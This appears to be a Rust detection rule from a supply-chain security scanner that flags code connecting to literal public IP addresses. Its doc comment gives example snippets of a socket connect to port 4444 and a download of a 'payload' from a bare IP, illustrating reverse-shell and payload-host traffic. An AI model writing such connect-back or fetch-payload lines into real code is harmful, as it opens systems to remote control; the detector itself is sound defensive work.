use std::net::Ipv4Addr;

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::facts::{Arg, Call};

use super::util::{context_severity, executes_near, in_code, is_doc, is_test};
use crate::{Input, Rule, finding};

/// Public resolvers that code "connects" to only to learn its own outbound address
/// or to test connectivity (`socket.connect(("8.8.8.8", 80))`).
const WELL_KNOWN: &[&str] = &[
    "8.8.8.8",
    "8.8.4.4",
    "1.1.1.1",
    "1.0.0.1",
    "9.9.9.9",
    "149.112.112.112",
    "208.67.222.222",
    "208.67.220.220",
];

/// Whether `s` is a routable public IPv4 address (not private, loopback, link-local,
/// documentation, shared, multicast or reserved) nor a well-known public resolver.
pub fn is_public_ip(s: &str) -> bool {
    let Ok(ip) = s.parse::<Ipv4Addr>() else {
        return false;
    };
    let [a, b, c, _] = ip.octets();
    let documentation = matches!((a, b, c), (192, 0, 2) | (198, 51, 100) | (203, 0, 113));
    let shared = a == 100 && (64..128).contains(&b);
    let benchmark = a == 198 && (b == 18 || b == 19);
    !(ip.is_private()
        || ip.is_loopback()
        || ip.is_link_local()
        || ip.is_multicast()
        || ip.is_broadcast()
        || ip.is_unspecified()
        || a == 0
        || a >= 240
        || documentation
        || shared
        || benchmark
        || WELL_KNOWN.contains(&s))
}

/// Callees that open a connection to a host and port.
fn is_connect(call: &Call) -> bool {
    let c = call.callee.as_str();
    matches!(
        c,
        "socket.create_connection"
            | "net.connect"
            | "net.createConnection"
            | "tls.connect"
            | "telnetlib.Telnet"
            | "TCPSocket.new"
            | "TCPSocket.open"
    ) || c.ends_with(".connect")
        || c.ends_with(".connect_ex")
}

/// The first public IP among the literal arguments of `call` (nested lists/tuples too).
fn ip_argument(call: &Call) -> Option<&str> {
    let mut stack: Vec<&Arg> = call.args.iter().collect();
    stack.extend(call.kwargs.iter().map(|(_, a)| a));
    while let Some(arg) = stack.pop() {
        match arg {
            Arg::Str(s) if is_public_ip(s.trim()) => return Some(s.trim()),
            Arg::List(items) => stack.extend(items),
            _ => {}
        }
    }
    None
}

/// ## What it does
/// Finds code that talks to a literal public IP address: a URL whose host is a
/// public IPv4 (`http://1.2.3.4:8080/x`) in a code string or npm lifecycle script,
/// or a socket connect to one (`socket.connect(("1.2.3.4", 4444))`,
/// `net.connect(4444, "1.2.3.4")`). Private, loopback, link-local, documentation
/// and reserved ranges, well-known public DNS resolvers and version-like strings
/// never count.
///
/// ## Why is this bad?
/// Real services have names; a bare IP is what a throwaway command-and-control
/// server, a reverse-shell listener or a payload host looks like, and it avoids the
/// DNS logs defenders watch. In code that runs at install or import time it is one
/// step from a remote shell.
///
/// ## Example
/// ```python
/// s = socket.socket(); s.connect(("45.1.2.3", 4444))
/// ```
/// ```javascript
/// https.get("http://45.1.2.3:8000/payload", r => r.pipe(fs.createWriteStream(p)));
/// ```
#[derive(Debug)]
pub struct RawIp;

impl Rule for RawIp {
    fn id(&self) -> &'static str {
        "NET-RAW-IP"
    }
    fn category(&self) -> Category {
        Category::NETWORK
    }
    fn summary(&self) -> &'static str {
        "a URL or socket connection to a literal public IP address in code"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        let mut seen = std::collections::HashSet::new();
        for file in &input.facts.files {
            if is_doc(file) || is_test(&file.path) {
                continue;
            }
            if let Some(source) = &file.source {
                for call in source.calls.iter().filter(|c| is_connect(c)) {
                    let Some(ip) = ip_argument(call) else {
                        continue;
                    };
                    if !seen.insert((file.path.as_str(), ip.to_owned())) {
                        continue;
                    }
                    out.push(finding(
                        self.id(),
                        context_severity(Severity::Medium, file),
                        self.category(),
                        format!("`{}` connects to the literal public IP {ip}", call.callee),
                        Some(&file.path),
                        Some(call.line),
                        Some(&call.snippet),
                    ));
                }
            }
            for url in &file.text.urls {
                if !is_public_ip(&url.host) {
                    continue;
                }
                if !seen.insert((file.path.as_str(), url.host.clone())) {
                    continue;
                }
                let needle = format!("{}://{}", url.scheme, url.host);
                let Some(text) = in_code(input, file, url.line, &needle) else {
                    continue;
                };
                // Fetched from a bare IP and run a few lines on: download and execute.
                let runs = executes_near(file, url.line);
                let base = if runs {
                    Severity::High
                } else {
                    Severity::Medium
                };
                let then = if runs { ", and runs code nearby" } else { "" };
                out.push(finding(
                    self.id(),
                    context_severity(base, file),
                    self.category(),
                    format!(
                        "code holds a URL to the literal public IP {}{then}",
                        url.host
                    ),
                    Some(&file.path),
                    Some(url.line),
                    Some(&text),
                ));
            }
        }
    }
}
